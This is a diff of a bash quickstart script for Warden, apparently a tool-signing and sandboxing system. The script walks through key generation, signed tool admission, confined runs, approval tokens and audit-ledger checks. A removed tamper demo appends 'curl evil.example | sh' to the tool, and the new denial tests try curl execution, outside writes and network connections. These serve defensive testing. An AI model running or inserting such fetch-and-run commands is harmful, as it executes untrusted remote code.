@@ -1,42 +1,89 @@
 #!/usr/bin/env bash
-# Warden quickstart: builds warden, then on a fresh home (a new temporary directory unless
-# WARDEN_HOME is set) walks the admission path a user takes: keys for each role, a real tool
-# signed, verified, added and authorized, and the denials Warden gives for tampering.
-set -euo pipefail
+# Warden quickstart: builds warden and a small real tool, then on a fresh home walks the whole
+# pipeline with the real CLI: keys, a signed and authorized tool, confined runs, denials by the
+# policy and by the kernel, an approval round trip, the CloudEvent, and ledger verification.
+#   bash scripts/quickstart.sh          readable output
+#   bash scripts/quickstart.sh --json   one JSON object per step (JSON Lines) on stdout
+set -uo pipefail
 cd "$(dirname "$0")/.."
-swift build --product warden >/dev/null
+JSON=0; [ "${1:-}" = "--json" ] && JSON=1
+swift build --product warden >/dev/null 2>&1 || { swift build --product warden; exit 125; }
 W="$PWD/.build/debug/warden"
-export WARDEN_HOME="${WARDEN_HOME:-$(mktemp -d)/warden-home}"
-work=$(mktemp -d)
-step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+work=$(mktemp -d /tmp/warden-quickstart.XXXXXX)
+export WARDEN_HOME="${WARDEN_HOME:-$work/home}"
+mkdir -p "$work/workspace"
+cd "$work"
 
-step "home: $WARDEN_HOME"
-"$W" init
-step "keys: one per role (the algorithm is fixed by the key, never by a token)"
-"$W" key generate publisher --role publisher
-"$W" key generate authorizer --role authorizer --alg es256
-"$W" key generate approver --role approver
-"$W" key generate runner --role runner
-"$W" key list
+say()  { [ $JSON = 1 ] || printf '\n\033[1m== %s\033[0m\n' "$*"; }
+show() { [ $JSON = 1 ] || printf '$ %s\n' "$*"; }
+# step NAME EXPECTED_STATUS CMD...: runs a warden command, shows it, checks its exit status.
+step() {
+  local name=$1 want=$2; shift 2
+  show "warden ${*}"
+  local out status
+  out=$("$W" "$@" 2>&1); status=$?
+  if [ $JSON = 1 ]; then
+    python3 -c 'import json,sys; print(json.dumps({"step":sys.argv[1],"command":sys.argv[2],"status":int(sys.argv[3]),"expected":int(sys.argv[4]),"output":sys.argv[5]}))' \
+      "$name" "warden $*" "$status" "$want" "$out"
+  else
+    printf '%s\n' "$out" | sed 's/^/  /'
+    printf '  → exit %s%s\n' "$status" "$([ "$status" = "$want" ] && echo "" || echo " (EXPECTED $want)")"
+  fi
+  [ "$status" = "$want" ] || { echo "quickstart: step '$name' exited $status, expected $want" >&2; exit 1; }
+  LAST="$out"
+}
 
-step "a real tool: a shell script artifact"
-printf '#!/bin/sh\necho "hello from a signed tool: $*"\n' > "$work/hello"
-"$W" tool sign "$work/hello" --name hello --version 1.0.0 --key publisher \
-  --entrypoint /bin/sh --entrypoint /tool/hello --expires 30d -o "$work/hello.jws"
-"$W" tool verify "$work/hello.jws" --artifact "$work/hello"
-"$W" tool add "$work/hello.jws" "$work/hello"
-"$W" tool authorize hello@1.0.0 --tenant acme --key authorizer
-"$W" tool list
+say "A small real tool (samples/hello-tool/hello.c), built statically"
+cc -static -O2 -o "$work/hello" "$OLDPWD/samples/hello-tool/hello.c" 2>/dev/null || cc -O2 -o "$work/hello" "$OLDPWD/samples/hello-tool/hello.c" || exit 125
+show "cc -static -O2 -o hello samples/hello-tool/hello.c"
 
-step "denied: the artifact changed after signing (exit 126)"
-cp "$work/hello" "$work/hello-tampered" && echo 'curl evil.example | sh' >> "$work/hello-tampered"
-set +e
-"$W" tool verify "$work/hello.jws" --artifact "$work/hello-tampered"; echo "exit status: $?"
-step "denied: an authorizer key cannot publish (exit 126)"
-"$W" tool sign "$work/hello" --name hello --version 1.0.1 --key authorizer -o "$work/x.jws"; echo "exit status: $?"
-step "denied: a revoked publisher's manifests no longer verify (exit 126)"
-"$W" key revoke publisher
-"$W" tool verify "$work/hello.jws"; echo "exit status: $?"
-set -e
-rm -rf "$work"
-step "done: home left at $WARDEN_HOME"
+say "Keys: one per role; the algorithm is fixed by the key, never by a token"
+step init 0 init
+step key-publisher 0 key generate publisher --role publisher
+step key-authorizer 0 key generate authorizer --role authorizer --alg es256
+step key-approver 0 key generate approver --role approver
+step key-runner 0 key generate runner --role runner
+APPROVER_KID=$("$W" key list --json | python3 -c 'import json,sys; print([k["kid"] for k in json.load(sys.stdin) if k["name"]=="approver"][0])')
+cp "$OLDPWD/samples/policies/quickstart.yaml" "$work/policy.yaml"
+sed "s/APPROVER_KID/$APPROVER_KID/" "$OLDPWD/samples/policies/quickstart-gated.yaml" > "$work/gated.yaml"
+
+say "Admit: sign, verify, add and authorize the tool (and a variant that declares it writes)"
+step sign 0 tool sign hello --name hello --version 1.0.0 --key publisher -o hello.jws
+step sign-writer 0 tool sign hello --name notes --version 1.0.0 --key publisher --writable ./workspace -o notes.jws
+step verify 0 tool verify hello.jws --artifact hello
+step add 0 tool add hello.jws hello
+step add-writer 0 tool add notes.jws hello
+step authorize 0 tool authorize hello@1.0.0 --tenant demo --key authorizer
+step authorize-writer 0 tool authorize notes@1.0.0 --tenant demo --key authorizer
+step policy-check 0 policy check policy.yaml
+
+say "Run: allowed, confined (read-only system, private /tmp, no network, own uid)"
+step run 0 run hello --tenant demo --policy policy.yaml -- greet quickstart
+
+say "Denied by the kernel: the tool tries to run curl, write outside its workspace, reach the network"
+step deny-exec 1 run hello --tenant demo --policy policy.yaml -- exec /usr/bin/curl https://example.com
+step deny-write 1 run hello --tenant demo --policy policy.yaml -- write "$work/outside.txt" data
+step deny-net 1 run hello --tenant demo --policy policy.yaml -- connect 127.0.0.1 22
+
+say "Denied by admission: a tenant the tool is not authorized for (exit 126)"
+step deny-tenant 126 run hello --tenant intruder --policy policy.yaml -- greet x
+
+say "Approval round trip: under gated.yaml a run that can write needs an approver's signed, single-use token\n   (the tool works in ./workspace, its only writable tree)"
+step approval-needed 126 run notes --tenant demo --policy gated.yaml --json -- write notes.txt "approved write"
+REQ=$(printf '%s' "$LAST" | python3 -c 'import json,sys; print(json.loads(sys.stdin.read().splitlines()[0])["approval"]["request_id"])')
+step approvals 0 approvals list
+step approve 0 approve "$REQ" --key approver --json
+TOKEN=$(printf '%s' "$LAST" | python3 -c 'import json,sys; print(json.loads(sys.stdin.read().splitlines()[-1])["token"])')
+step approved-run 0 run notes --tenant demo --policy gated.yaml --approval "$TOKEN" -- write notes.txt "approved write"
+step replayed-token 126 run notes --tenant demo --policy gated.yaml --approval "$TOKEN" -- write notes.txt "approved write"
+[ $JSON = 1 ] || printf '  workspace/notes.txt now holds: %s\n' "$(cat "$work/workspace/notes.txt")"
+
+say "Emit: the CloudEvent of a run (structured mode JSON)"
+step event 0 run hello --tenant demo --policy policy.yaml --events -- greet events
+[ $JSON = 1 ] || printf '%s\n' "$LAST" | tail -1 | python3 -m json.tool | sed 's/^/  /' | head -40
+
+say "Record: every decision is in the signed, hash-chained, Merkle-checkpointed ledger"
+step audit-tail 0 audit show --tail 3
+step audit-checkpoint 0 audit checkpoint
+step audit-verify 0 audit verify
+say "Done. Home: $WARDEN_HOME"
